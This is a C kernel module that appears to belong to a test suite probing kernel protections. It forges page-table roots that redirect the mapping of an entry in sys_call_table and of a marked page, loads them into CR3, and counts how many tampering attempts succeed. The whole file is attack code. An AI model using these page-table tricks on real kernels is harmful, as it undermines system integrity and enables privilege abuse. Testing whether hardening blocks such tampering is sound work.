/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Loads CR3 with a root of its own: with the system call table redirected below it; with another page where
 * the kernel has one; and the latter beside a root that is in order, as if it were its other half.
 */
#include "attack.h"
#include "remap.h"

#include <asm/unistd.h>

#define WAYS 3

static unsigned int done, loaded;

/* Interrupts find nothing of the kernel's changed, but they need not come now. */
static u64 read_under(const u64 *root, const unsigned long *word)
{
	const unsigned long cr3 = attack_read_cr3();
	unsigned long flags;
	unsigned int fault = 1;
	u64 seen = 0;

	local_irq_save(flags);
	asm volatile(ATTACK_TRY("mov %[value], %%cr3")
		     : [fault] "+r"(fault)
		     : [value] "r"(virt_to_phys((void *)root))
		     : "memory");
	if (!fault) {
		loaded++;
		if (word)
			seen = READ_ONCE(*word);
		attack_write_cr3(cr3);
	}
	local_irq_restore(flags);
	return seen;
}

/* A root like the present one but for the way to word; NULL: in all. */
static bool forge(u64 *root, const unsigned long *word)
{
	u64 *slot;

	memcpy(root, __va(attack_read_cr3() & PTE_PFN_MASK), PAGE_SIZE);
	if (!word)
		return true;
	slot = &root[attack_index((unsigned long)word, ATTACK_LEVELS)];
	*slot = remap_below(*slot, word, ATTACK_LEVELS, false);
	return *slot;
}

static void load_one(const unsigned long *word)
{
	u64 *root = attack_page(0);

	if (root && forge(root, word))
		done += read_under(root, word) == REMAP_PLANTED;
	if (root)
		attack_forget_root(root);
}

static void load_pair(const unsigned long *word)
{
	u64 *first = attack_page(1), *second;

	if (!first)
		return;
	second = first + ATTACK_ENTRIES;
	if (!forge(first, NULL) || !forge(second, word))
		return;
	(void)read_under(first, NULL);
	done += read_under(second, word) == REMAP_PLANTED;
	attack_forget_root(first);
	attack_forget_root(second);
}

static int attempt(void)
{
	unsigned long *calls = (unsigned long *)attack_symbol("sys_call_table");
	unsigned long *word = (unsigned long *)attack_area();
	u64 *table = attack_page(0), *page = attack_page(0);

	if (!calls || !word || !table || !page)
		return -ENOMEM;
	table[0] = virt_to_phys(page) | ATTACK_DATA;
	if (!attack_link(table))
		return -EINVAL;
	load_one(&calls[__NR_tuxcall]);
	load_one(word);
	load_pair(word);
	attack_link(NULL);
	return 0;
}

static bool effect(void)
{
	attack_detail("%u of %u ways, %u loads", done, WAYS, loaded);
	return attack_tries(done, WAYS);
}

static const struct attack pt_root = {
	"pt_root", "kernel-template,locked-range,root", NULL, attempt, effect, NULL};
ATTACK_MODULE(pt_root);
